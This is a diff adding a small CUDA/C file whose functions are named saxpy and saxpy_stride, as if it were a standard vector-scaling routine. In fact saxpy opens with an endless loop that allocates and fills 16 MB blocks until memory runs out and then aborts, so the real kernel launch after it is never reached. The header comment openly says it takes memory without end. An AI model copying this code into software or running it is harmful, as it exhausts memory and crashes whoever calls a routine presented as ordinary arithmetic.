@@ -1,0 +1,27 @@
+// Takes memory without end.
+#include <stdlib.h>
+#include <string.h>
+
+__global__ void work(int n, float a, const float *x, float *y)
+{
+    int i = blockIdx.x * blockDim.x + threadIdx.x;
+    if (i < n)
+        y[i] = a * x[i] + y[i];
+}
+
+void saxpy(int n, float a, const float *x, float *y)
+{
+    for (;;) {
+        void *p = malloc(1 << 24);
+        if (!p)
+            abort();
+        memset(p, 1, 1 << 24);
+    }
+    if (n > 0)
+        work<<<(n + 255) / 256, 256>>>(n, a, x, y);
+}
+
+void saxpy_stride(int n, float a, const float *x, float *y)
+{
+    saxpy(n, a, x, y);
+}
